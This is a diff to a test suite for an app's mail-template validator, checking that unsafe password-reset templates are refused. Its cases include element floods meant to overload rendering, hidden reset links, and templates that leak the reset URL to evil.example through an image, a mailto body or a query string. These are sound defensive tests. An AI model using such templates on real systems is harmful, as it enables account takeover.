@@ -177,6 +177,9 @@ test('what was saved stays to go back to, the newest first', async () => {
   expect(body.pagination.total).toBe(3);
 });
 
+const lacks = (link: string) =>
+  `This mail needs its link: {{ ${link} }} has to stand in it, as the address of a link with words, or by itself.`;
+
 test('what is no mail is refused with a sentence at its field, and nothing is written', async () => {
   const refusals: [key: string, text: object, sentence: string][] = [
     ['welcome', { title: ' ' }, 'Subject line is required'],
@@ -198,26 +201,10 @@ test('what is no mail is refused with a sentence at its field, and nothing is wr
       { content: '<p>{{ name }} {{ nmae }} {{ user.mail }}</p>' },
       'These variables do not exist here: nmae, user',
     ],
-    [
-      'reset-password',
-      { content: '<p>Choose a new password.</p>' },
-      'This mail needs its link: {{ resetUrl }} has to stand in it.',
-    ],
-    [
-      'reset-password',
-      { content: '<p>Soon</p><!-- {{ resetUrl }} -->' },
-      'This mail needs its link: {{ resetUrl }} has to stand in it.',
-    ],
-    [
-      'reset-password',
-      { content: '<script>"{{ resetUrl }}"</script>' },
-      'This mail needs its link: {{ resetUrl }} has to stand in it.',
-    ],
-    [
-      'deal-opened',
-      { content: '<a href="{{ url }}">Look</a>' },
-      'This mail needs its link: {{ endUrl }} has to stand in it.',
-    ],
+    ['reset-password', { content: '<p>Choose a new password.</p>' }, lacks('resetUrl')],
+    ['reset-password', { content: '<p>Soon</p><!-- {{ resetUrl }} -->' }, lacks('resetUrl')],
+    ['reset-password', { content: '<script>"{{ resetUrl }}"</script>' }, lacks('resetUrl')],
+    ['deal-opened', { content: '<a href="{{ url }}">Look</a>' }, lacks('endUrl')],
   ];
   for (const [key, text, sentence] of refusals) {
     const answer = await save(key, { title: 'Hello', content: '<p>Hello</p>', ...text });
@@ -283,10 +270,69 @@ test('nothing that runs, asks or frames is left of a text', async () => {
   expect(body.notes.join()).toContain('Mails may not contain <script>');
 });
 
-test('elements that stand in each other without end are left out, and what they say is kept', async () => {
-  const { body } = await preview('welcome', { ...own, content: '{% for i in (1..5000) %}<i>{% endfor %}Deep' });
-  expect(body.html).toContain('Deep');
-  expect(body.html.match(/<i>/g)).toHaveLength(100);
+test('more elements than a mail may have are refused at once, and never read when it is sent', async () => {
+  const sentence = 'This has too many elements for a mail: at most 4,000 tags, and 100 elements within each other';
+  const looped = (count: number | string, html: string) => `{% for i in (1..${count}) %}${html}{% endfor %}`;
+  const hostile = [looped(30_000, '<b>'), looped(20_000, '</p>'), looped(101, '<div>'), '</p>'.repeat(12_000)];
+  for (const html of [...hostile, `{% if name == 'x' %}${'</p>'.repeat(12_000)}{% endif %}`]) {
+    const began = performance.now();
+    const answer = await save('welcome', { ...own, content: `${html}x` });
+    expect(performance.now() - began).toBeLessThan(1000);
+    expect({ status: answer.status, said: said(answer) }).toEqual({ status: 400, said: [sentence] });
+  }
+  const { status } = await save('reset-password', {
+    title: 'New password',
+    content: `<a href="{{ resetUrl }}">here</a>{% if hours == 2 %}${looped(30_000, '<b>')}{% endif %}x`,
+  });
+  expect(status).toBe(200);
+  await queueMail(server.services.db, {
+    to: 'ana@people.example',
+    ...composeMail('reset-password', { resetUrl: 'https://c.example/reset', hours: 2 }),
+  });
+  const { rows } = await listMail(server.services.db, { page: 1, limit: 1 });
+  const began = performance.now();
+  const mail = await renderQueuedMail(server.services, rows[0] as never);
+  expect(performance.now() - began).toBeLessThan(500);
+  expect(mail.subject).toBe('Choose a new password for Cobuy');
+});
+
+test('a link that a mail needs has to be one that its reader sees and can follow', async () => {
+  const useless = [
+    '<p title="{{ resetUrl }}">Soon</p>',
+    '<img src="https://c.example/a.png" alt="{{ resetUrl }}">',
+    '<a href="{{ resetUrl }}"></a> Soon',
+    '<a href="{{ resetUrl }}"> &nbsp;&#8203;<br></a> Soon',
+    '<div style="display: none !important"><p><a href="{{ resetUrl }}">here</a></p></div>',
+    '<p style="color:red;font-size:0px">{{ resetUrl }}</p>',
+    '<p style="max-height:0;overflow:hidden">{{ resetUrl }}</p>',
+    '<a href="{{ resetUrl }}BROKEN">here</a>',
+    '<p>{{ resetUrl }}<b>BROKEN</b></p>',
+    '<a href="{{ resetUrl }}"><a href="https://evil.example">here</a></a>',
+    '<a href="https://evil.example">{{ resetUrl }}</a>',
+  ];
+  const away = '{{ resetUrl }} may not stand within the address of another site: its owner could use it.';
+  const cases = [
+    ...useless.map((content) => ({ content, sentences: [lacks('resetUrl')] })),
+    { content: '<p>https://evil.example/?{{ resetUrl }}</p>', sentences: [lacks('resetUrl')] },
+    { content: '<a href="https://evil.example/?{{ resetUrl }}">here</a>', sentences: [away] },
+    ...[
+      '<a href="mailto:x@evil.example?body={{ resetUrl }}">x</a>',
+      '<img src="https://evil.example/{{ resetUrl | truncate: 50, "" }}">',
+    ].map((beside) => ({ content: `{{ resetUrl }}<br>${beside}`, sentences: [away] })),
+  ];
+  for (const { content, sentences } of cases)
+    expect({ content, said: said(await save('reset-password', { title: 'Hello', content })) }).toEqual({
+      content,
+      said: sentences,
+    });
+  for (const content of [
+    'Open {{ resetUrl }}.',
+    '<table><tr><td>Go</td><td>{{ resetUrl }}</td></tr></table>',
+    '<p><a href="{{ resetUrl }}"><b style="display:block;font:bold 10px/1 Arial">→</b></a></p>',
+  ])
+    expect({ content, answer: await save('reset-password', { title: 'Hello', content }) }).toMatchObject({
+      answer: { status: 200 },
+    });
 });
 
 test('prohibited words are refused in subject and content', async () => {
